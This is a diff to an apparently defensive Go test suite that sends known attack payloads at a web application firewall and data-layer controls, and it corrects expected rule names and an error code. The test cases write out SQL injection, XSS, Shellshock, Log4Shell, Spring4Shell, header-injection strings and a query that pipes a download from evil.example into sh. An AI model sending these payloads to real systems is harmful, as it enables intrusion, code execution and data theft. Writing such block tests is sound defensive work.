@@ -31,7 +31,7 @@ func injections() []Attack {
 		{"SQL injection in a JSON body", layer.CloudArmor, "waf-sqli", acquire(`{"fingerprint": "x' UNION SELECT password FROM users--"}`)},
 		{"SQL injection in a cookie", layer.CloudArmor, "waf-sqli", header("Cookie", "session=1' OR 1=1 UNION SELECT password FROM users--")},
 		{"SQL injection in the Referer", layer.CloudArmor, "waf-sqli", header("Referer", "x' UNION SELECT password FROM users--")},
-		{"SQL injection by JSON operators", layer.CloudArmor, "waf-", query(`id=1%20OR%20JSON_EXTRACT(%27%7B%22a%22:1%7D%27,%27$.a%27)=1`)},
+		{"SQL injection by JSON operators", layer.CloudArmor, "waf-sqli", query(`id=1%20OR%20JSON_EXTRACT(%27%7B%22a%22:1%7D%27,%27$.a%27)=1`)},
 		{"script in the query", layer.CloudArmor, "waf-xss", query("q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")},
 		{"script in a JSON body", layer.CloudArmor, "waf-xss", acquire(`{"fingerprint": "<img src=x onerror=alert(1)>"}`)},
 		{"script in the Referer", layer.CloudArmor, "waf-xss", header("Referer", "<script>alert(1)</script>")},
@@ -41,11 +41,13 @@ func injections() []Attack {
 		{"shell command in the query", layer.CloudArmor, "waf-rce", query("q=%3Bwget%20-O-%20evil.example%7Csh")},
 		{"shell command by Shellshock", layer.CloudArmor, "waf-rce", header("User-Agent", "() { :; }; /bin/bash -c id")},
 		{"PHP code in the query", layer.CloudArmor, "waf-php", query("q=%3C%3Fphp%20phpinfo()%3B")},
-		{"Java lookup of Log4Shell", layer.CloudArmor, "waf-", header("User-Agent", "${jndi:ldap://evil.example/a}")},
-		{"Java class loader of Spring4Shell", layer.CloudArmor, "waf-", query("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")},
-		{"Node.js code in the query", layer.CloudArmor, "waf-", query("q=require(%27child_process%27).exec(%27id%27)")},
-		{"header injection", layer.CloudArmor, "waf-", query("q=x%0d%0aSet-Cookie:%20admin=1")},
-		{"session fixation", layer.CloudArmor, "waf-", query("q=%3Cmeta%20http-equiv%3Dset-cookie%20content%3D1%3E.cookie%3B%20expires%3D1")},
+		{"Java lookup of Log4Shell", layer.CloudArmor, "waf-java", header("User-Agent", "${jndi:ldap://evil.example/a}")},
+		{"Java class loader of Spring4Shell", layer.CloudArmor, "waf-java", query("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")},
+		{"Node.js prototype in the query", layer.CloudArmor, "waf-generic", query("__proto__%5Badmin%5D=1")},
+		{"header injection", layer.CloudArmor, "waf-protocolattack", query("q=x%0d%0aSet-Cookie:%20admin=1")},
+		{"session fixation", layer.CloudArmor, "waf-sessionfixation", web(Request{
+			Query: "jsessionid=0123456789", Header: map[string]string{"Referer": "https://evil.example/"},
+		})},
 		{"scanner", layer.CloudArmor, "waf-scannerdetection", header("User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)")},
 		{"method that is never used", layer.CloudArmor, "waf-methodenforcement", web(Request{Method: http.MethodTrace})},
 	}
@@ -120,7 +122,7 @@ func intruders() []Attack {
 		{"PostgreSQL as superuser", layer.Data, "28", sql(true, "postgres")},
 		{"KMS in plain text", layer.Data, "TLS only", sign(false, key)},
 		{"KMS without a key", layer.Data, "InvalidArgument", sign(true, "")},
-		{"KMS with an unknown key", layer.Data, "NotFound", sign(true, key)},
+		{"KMS with an unknown key", layer.Data, "PermissionDenied", sign(true, key)},
 	}
 }
 
